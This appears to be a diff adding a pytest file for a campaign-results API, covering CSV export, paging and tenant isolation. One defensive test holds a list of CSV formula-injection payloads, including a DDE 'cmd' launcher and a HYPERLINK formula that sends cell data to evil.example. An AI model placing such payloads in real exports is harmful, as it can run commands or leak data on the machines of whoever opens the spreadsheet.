@@ -1,0 +1,185 @@
+"""A campaign's results, for programs and for spreadsheets."""
+
+from __future__ import annotations
+
+import csv
+import io
+from typing import TYPE_CHECKING
+from urllib.parse import quote
+
+import pytest
+
+from linkgate.wire.spreadsheet_csv import safe_cell, write_csv
+from local.demo import CAMPAIGN, DEMO, OTHER
+from tests.cli.conftest import Shell
+
+if TYPE_CHECKING:
+    from tests.management.conftest import Manager
+
+PATH = f"/campaigns/{quote(CAMPAIGN)}/results"
+
+
+def answered(manager: Manager, answers: dict[str, object], **fields: object) -> None:
+    manager.submit(manager.ask(**fields)["link"], answers)  # type: ignore[arg-type] # whatever the test gives
+
+
+def rows(text: str) -> list[dict[str, str]]:
+    return list(csv.DictReader(io.StringIO(text)))
+
+
+def test_answers_stand_beside_what_the_caller_told(manager: Manager) -> None:
+    answered(
+        manager,
+        {"rating": 5, "comment": "Great"},
+        customerName="Ada",
+        accountNumber="A-1",
+        agentName="A.N. Agent",
+        miscData={"branch": "Leeds"},
+    )
+    manager.ask("bob@example.com")
+
+    page = manager.get(PATH)
+
+    unanswered, result = page["results"]
+    assert result["answers"] == {"rating": 5, "comment": "Great"}
+    assert (result["customerName"], result["accountNumber"], result["agentName"]) == ("Ada", "A-1", "A.N. Agent")
+    assert result["miscData"] == {"branch": "Leeds"}
+    assert result["status"] == "Submitted"
+    assert unanswered["answers"] is None
+    assert page["cursor"] is None
+
+
+def test_only_answered_ones_on_request(manager: Manager) -> None:
+    answered(manager, {"rating": 4})
+    manager.ask("bob@example.com")
+
+    assert [result["answers"] for result in manager.get(f"{PATH}?submitted=true")["results"]] == [{"rating": 4}]
+
+
+def test_pages_follow_one_another(manager: Manager) -> None:
+    for number in range(5):
+        manager.ask(f"customer{number}@example.com")
+        manager.cloud.post("/_local/clock", {"advance_seconds": 3600})
+    contacts: list[str] = []
+    cursor = ""
+    while True:
+        page = manager.get(f"{PATH}?limit=2{cursor}")
+        contacts += [result["contact"] for result in page["results"]]
+        if page["cursor"] is None:
+            break
+        cursor = f"&cursor={page['cursor']}"
+
+    assert contacts == [f"customer{number}@example.com" for number in reversed(range(5))]
+
+
+def test_a_csv_has_a_column_for_each_thing_told_and_answered(manager: Manager) -> None:
+    answered(manager, {"rating": 5}, accountNumber="A-1", miscData={"branch": "Leeds", "number": "7"})
+    answered(manager, {"comment": "Äh, “ja”\nund mehr"}, miscData={"region": "North"})
+
+    response = manager.raw("GET", f"{PATH}?format=csv")
+
+    assert response.header("content-type") == "text/csv; charset=utf-8"
+    found = rows(response.text)
+    assert list(found[0]) == [
+        "rid",
+        "number",
+        "status",
+        "created",
+        "submitted",
+        "contact",
+        "customer",
+        "account_number",
+        "agent",
+        "region",
+        "branch",
+        "number (misc)",
+        "answer: comment",
+        "answer: rating",
+    ]
+    newest, oldest = found
+    assert newest["answer: comment"] == "Äh, “ja”\nund mehr"
+    assert (oldest["branch"], oldest["number (misc)"], oldest["answer: rating"]) == ("Leeds", "7", "5")
+    assert oldest["account_number"] == "A-1"
+
+
+def test_a_csv_names_its_next_page(manager: Manager) -> None:
+    manager.ask("a@example.com")
+    manager.ask("b@example.com")
+
+    first = manager.raw("GET", f"{PATH}?limit=1", headers={"Accept": "text/csv"})
+    link = first.header("link")
+    second = manager.raw("GET", link[1 : link.index(">")], headers={"Accept": "text/csv"})
+
+    assert link.endswith('; rel="next"')
+    assert {row["contact"] for row in rows(first.text) + rows(second.text)} == {"a@example.com", "b@example.com"}
+
+
+def test_format_wins_over_accept(manager: Manager) -> None:
+    assert manager.raw("GET", f"{PATH}?format=json", headers={"Accept": "text/csv"}).json()["results"] == []
+
+
+FORMULAS = [
+    "=1+1",
+    "+1",
+    "-1+cmd|' /C calc'!A0",
+    "@SUM(1+1)",
+    "\t=1",
+    "\r=1",
+    "\n=1",
+    "  =1",
+    "\uff1d1+1",
+    "|calc",
+    '=HYPERLINK("http://evil.example?"&A1,"x")',
+]
+
+
+def test_no_cell_of_a_csv_is_a_formula(manager: Manager) -> None:
+    for formula in FORMULAS:
+        answered(manager, {"comment": formula}, customerName=formula.strip() or "x", miscData={formula: formula})
+
+    response = manager.raw("GET", f"{PATH}?format=csv")
+
+    for row in csv.reader(io.StringIO(response.text)):
+        for cell in row:
+            assert not cell.lstrip(" ").startswith(tuple("=+-@\t\r\n|\uff1d\uff0b\uff0d\uff20")), cell
+
+
+@pytest.mark.parametrize("value", [5, -5, 1.5, True, None, "plain", "é", ["=1"], {"a": "=1"}])
+def test_what_is_no_formula_stays_as_it_is(value: object) -> None:
+    assert not safe_cell(value).startswith("'")
+
+
+def test_quotes_and_line_breaks_survive() -> None:
+    text = write_csv(["a"], [{"a": 'x"y\r\nz,;'}])
+
+    assert list(csv.reader(io.StringIO(text, newline="")))[1] == ['x"y\r\nz,;']
+
+
+def test_an_unknown_campaign_is_not_found(manager: Manager) -> None:
+    manager.ask()
+
+    assert manager.get("/campaigns/nothing/results", 404)["detail"] == "There is no such campaign."
+    assert manager.raw("GET", "/campaigns//results").status == 404
+
+
+def test_a_deleted_campaigns_results_stay_as_long_as_its_links(manager: Manager, other: Manager) -> None:
+    answered(manager, {"rating": 5})
+    manager.cloud.post("/_local/clock", {"advance_seconds": 3600})
+    now = quote(manager.cloud.clock.now().isoformat())
+    shell = Shell(manager.cloud)
+    for tenant in (DEMO, OTHER):
+        shell.run("campaign", "delete", CAMPAIGN, "--tenant", tenant.id)
+    manager.cloud.post("/_local/clock", {"advance_seconds": 61})
+
+    assert [result["answers"] for result in manager.get(PATH)["results"]] == [{"rating": 5}]
+    assert rows(manager.raw("GET", f"{PATH}?format=csv").text)[0]["answer: rating"] == "5"
+    assert manager.get(f"{PATH}?createdAfter={now}") == {"campaign": CAMPAIGN, "results": [], "cursor": None}
+    assert "answer: rating" in shell.stdout("results", CAMPAIGN, "--tenant", DEMO.id)
+    assert other.get(PATH, 404)["detail"] == "There is no such campaign."
+    assert "no campaign" in shell.run("results", CAMPAIGN, "--tenant", OTHER.id, code=1)
+
+
+def test_another_tenants_answers_are_nobody_elses(manager: Manager, other: Manager) -> None:
+    answered(other, {"comment": "theirs"})
+
+    assert manager.get(PATH)["results"] == []
